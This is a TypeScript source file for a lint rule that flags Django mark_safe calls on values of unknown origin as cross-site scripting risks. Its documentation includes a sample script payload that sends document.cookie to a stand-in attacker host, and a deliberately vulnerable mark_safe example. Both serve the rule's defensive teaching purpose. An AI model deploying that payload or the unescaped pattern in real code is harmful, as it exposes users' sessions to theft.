import { defineRule } from '../../engine/rule';
import { classifyHtml, short } from './html-values';

/** Django's ways to mark a string as safe HTML; `mark_safe` is also importable from django.utils.html. */
export const MARK_SAFE_CALLS = [
  'django.utils.safestring.mark_safe',
  'django.utils.html.mark_safe',
  'django.utils.safestring.SafeString',
  'django.utils.safestring.SafeText',
];

export default defineRule({
  meta: {
    id: 'PW804',
    name: 'mark-safe',
    title: 'mark_safe on a value of unknown origin',
    category: 'web',
    // Bandit B308 (MEDIUM/HIGH, CWE-79) reports every mark_safe call; Ruff S308 skips a string
    // literal. Here literals (and strings built only from constants) and values escaped by a
    // known function are not reported, strings formatted with run-time values are PW805's
    // (Bandit B703), and what is left — a value whose content is not visible here — is reported
    // with medium confidence: it may well have been escaped elsewhere.
    severity: 'medium',
    confidence: 'medium',
    cwe: 79,
    bandit: 'B308',
    ruff: 'S308',
    // Bandit's B703 reports the same calls.
    alsoCovers: ['B703'],
    fixable: false,
    offInTests: true,
    docs: {
      what: 'Finds `django.utils.safestring.mark_safe(value)` (and `SafeString(value)`, `@mark_safe` on a function) where `value` is a variable, parameter, attribute or call result whose content is not visible at the call. Literals, strings built only from constants and values passed through `escape`, `conditional_escape`, `format_html`, `render_to_string` or a sanitizer are not reported; strings formatted with run-time values are reported by PW805.',
      why: '`mark_safe` tells Django\'s templates not to escape the string. If any part of it came from a user — a profile field, a query parameter, a database row someone else wrote — and was not escaped on the way, a value like `<script>document.location="https://evil.example/?"+document.cookie</script>` runs in the browser of everyone who views the page (cross-site scripting): sessions are stolen and actions are taken as the victim.',
      example: 'from django.utils.safestring import mark_safe\n\ndef bio_html(profile):\n    return mark_safe(profile.bio)',
      safe: 'from django.utils.html import format_html, linebreaks\n\ndef bio_html(profile):\n    # linebreaks() escapes its input (autoescape=True) and returns safe HTML\n    return linebreaks(profile.bio, autoescape=True)\n\ndef badge(user):\n    return format_html("<b>{}</b>", user.name)',
      references: [
        'https://cwe.mitre.org/data/definitions/79.html',
        'https://docs.djangoproject.com/en/stable/ref/utils/#django.utils.safestring.mark_safe',
        'https://docs.djangoproject.com/en/stable/ref/utils/#django.utils.html.format_html',
        'https://docs.djangoproject.com/en/stable/topics/security/#cross-site-scripting-xss-protection',
      ],
    },
  },
  calls: MARK_SAFE_CALLS,
  references: ['django.utils.safestring.mark_safe', 'django.utils.html.mark_safe'],

  checkCall(call, context) {
    if (call.hasStarArgs || call.hasStarKwargs) return;
    const argument = call.argument(0, 's') ?? call.positional(0);
    if (!argument) return;
    if (classifyHtml(argument.value, context).kind !== 'opaque') return;
    context.report(call.node, {
      message: `\`${call.callee.text}\` stops Django escaping \`${short(argument.value.text)}\`; if it holds user input, use \`format_html\` (XSS).`,
    });
  },

  checkReference(reference, context) {
    // `@mark_safe` on a function: everything it returns is trusted.
    const decorator = reference.node.parent;
    if (decorator?.type !== 'decorator') return;
    const definition = decorator.parent?.type === 'decorated_definition' ? decorator.parent.childForFieldName('definition') : undefined;
    const name = definition?.childForFieldName('name')?.text ?? 'the function';
    context.report(decorator, {
      message: `\`@${reference.node.text}\` marks all \`${name}\` returns as safe HTML (XSS if it includes user data); use \`format_html\`.`,
    });
  },
});
